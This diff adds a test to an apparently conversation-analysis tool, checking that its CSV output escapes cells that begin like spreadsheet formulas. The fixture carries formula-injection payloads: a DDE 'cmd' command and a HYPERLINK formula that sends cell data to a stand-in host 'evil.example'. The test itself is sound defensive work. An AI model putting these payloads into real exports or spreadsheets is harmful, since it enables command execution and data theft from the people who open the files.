@@ -482,3 +482,51 @@ def test_unsafe_replies_are_counted_and_kept_apart(invoke: Invoke, tmp_path: Pat
     assert json.loads(written[1]["unsafe_spans"]) == []
     unsafe, kind = read_results(out)
     assert unsafe["unsafe"][0]["text"] == "Just die" and kind["unsafe"] == []
+
+
+#: What a spreadsheet may take as the start of a formula (CSV or formula injection).
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+#: A thread from untrusted forum users whose texts, ids and names begin like formulas.
+FORMULA_THREAD = [
+    {"id": "s0", "conversation_id": "+c", "speaker": "=cmd|' /C calc'!A0",
+     "text": '=HYPERLINK("http://evil.example/?"&A1,"click me") I feel so alone.'},
+    {"id": "r0", "conversation_id": "+c", "speaker": "helper", "reply_to": "s0",
+     "text": "@SUM(1+1) I'm so sorry, how are you?"},
+    {"id": "-r1", "conversation_id": "+c", "speaker": "'quoted", "reply_to": "s0",
+     "text": "-5 days is a long time to feel that way. What happened?"},
+    {"id": "=r2", "conversation_id": "+c", "speaker": "@maya", "reply_to": "s0",
+     "text": "\tThat sounds hard. I'm here."},
+]  # fmt: skip
+
+
+def test_csv_output_starts_no_formula_and_reads_back_as_written(
+    invoke: Invoke, tmp_path: Path
+) -> None:
+    source = tmp_path / "thread.jsonl"
+    source.write_text("".join(json.dumps(t) + "\n" for t in FORMULA_THREAD), encoding="utf-8")
+    out, exact = tmp_path / "out.csv", tmp_path / "out.jsonl"
+    for path in (out, exact):
+        result = invoke("analyze", source, "-o", path, "-q")
+        assert result.exit_code == 0, result.output
+    with out.open(encoding="utf-8", newline="") as fh:
+        header, *rows = csv.reader(fh)
+    assert len(rows) == 3
+    for row in rows:
+        cells = dict(zip(header, row, strict=True))
+        assert not [c for c in cells.values() if c.startswith(FORMULA_STARTS)], cells
+        assert cells["seeker_speaker"] == "'=cmd|' /C calc'!A0"  # a text in any spreadsheet
+        assert cells["conversation_id"] == "'+c"
+        numbers = [c for name, c in cells.items() if name.endswith(("_level", "_p0", "_p2"))]
+        assert all(float(c) >= 0 for c in numbers)  # written as numbers, no apostrophe
+    # carelens reads its own CSV back exactly: as the exact format holds the same run.
+    records = list(read_results(out))
+    assert records == list(read_results(exact))
+    assert [r["speaker"] for r in records] == ["helper", "'quoted", "@maya"]
+    assert [r["response_id"] for r in records] == ["r0", "-r1", "=r2"]
+    assert records[2]["response_text"] == "\tThat sounds hard. I'm here."
+    # A re-run resumes the CSV (its texts read back as the input's): nothing is added.
+    kept = out.read_bytes()
+    again = invoke("analyze", source, "-o", out)
+    assert again.exit_code == 0, again.output
+    assert "3 already in the output" in again.stdout
+    assert out.read_bytes() == kept
